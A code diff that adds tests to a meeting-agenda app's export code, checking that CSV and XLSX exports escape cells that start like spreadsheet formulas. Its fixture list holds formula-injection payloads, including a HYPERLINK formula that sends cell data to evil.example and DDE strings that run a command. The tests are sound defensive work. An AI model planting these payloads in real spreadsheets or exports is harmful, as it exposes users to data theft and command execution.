@@ -1,12 +1,14 @@
 import fs from "node:fs";
 import ExcelJS from "exceljs";
 import Papa from "papaparse";
+import { eq } from "drizzle-orm";
 import { afterEach, beforeEach, describe, expect, it } from "vitest";
 import type { DB } from "@/db/client";
 import {
   agendaCategories,
   agendaItems,
   ballots,
+  grids,
   meetingAgendaItems,
   meetings,
   planRevisions,
@@ -172,6 +174,47 @@ describe("files", () => {
     expect(() => parseExportFile("people.csv")).toThrow();
     expect(() => parseExportFile("topics.pdf")).toThrow();
     expect(parseExportFile("ballots.xlsx")).toEqual({ kind: "ballots", format: "xlsx" });
+  });
+});
+
+describe("cells a spreadsheet would execute", () => {
+  const attacks = ['=HYPERLINK("http://evil.example/?x="&A1,"点此查看")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", '=HYPERLINK("http://evil.example")\n第二行'];
+
+  it("CSV: a topic title, a grid name and a rating comment that start like a formula arrive as text; numbers stay numbers", async () => {
+    db.update(topics).set({ title: attacks[0]! }).where(eq(topics.id, ids.topic.id)).run();
+    db.update(grids).set({ name: "=1+1" }).where(eq(grids.id, place.gridA.id)).run();
+    db.update(supervisionRatings).set({ comment: attacks[6]! }).run();
+    const res = await exportResponse(db, actorOf(db, ids.chief.id), "topics.csv", new URL(`http://x/api/v1/exports/topics.csv?gridId=${place.gridA.id}`), "zh-CN");
+    const text = new TextDecoder().decode(await res.arrayBuffer());
+    const row = Papa.parse<string[]>(text.slice(1), { skipEmptyLines: true }).data[1]!;
+    expect(row[1]).toBe(`'${attacks[0]}`);
+    expect(row[2]).toBe("'=1+1");
+    expect(row[0]).toBe(String(ids.topic.id));
+    expect(text).not.toMatch(/(^|[\r\n,])"?=/);
+
+    const ratings = Papa.parse<string[]>(toCsv(ratingRows(db, gridAScope())).slice(1), { skipEmptyLines: true }).data[1]!;
+    expect(ratings[8]).toBe(`'${attacks[6]}`);
+  });
+
+  it("CSV: every dangerous first character is escaped, a negative number is left numeric", () => {
+    const csv = toCsv({ headers: ["标题", "预算"], rows: [...attacks.map((a) => [a, -5]), ["电梯加装", 12]] });
+    const rows = Papa.parse<string[]>(csv.slice(1), { skipEmptyLines: true }).data.slice(1);
+    expect(rows.map((r) => r[0])).toEqual([...attacks.map((a) => `'${a}`), "电梯加装"]);
+    expect(rows.map((r) => r[1])).toEqual([...attacks.map(() => "-5"), "12"]);
+  });
+
+  it("XLSX: the same values are plain text cells, never formulas", async () => {
+    const buf = await toXlsx({ headers: ["标题", "预算"], rows: attacks.map((a) => [a, -5]) }, "议题");
+    const wb = new ExcelJS.Workbook();
+    await wb.xlsx.load(buf as unknown as ArrayBuffer);
+    const ws = wb.getWorksheet("议题")!;
+    attacks.forEach((a, i) => {
+      const cell = ws.getRow(i + 2).getCell(1);
+      expect(cell.type).toBe(ExcelJS.ValueType.String);
+      expect(cell.value).toBe(a.replace("\r", "\n")); // XML has no bare CR: it reads back as LF
+      expect(cell.formula).toBeUndefined();
+      expect(ws.getRow(i + 2).getCell(2).value).toBe(-5);
+    });
   });
 });
 
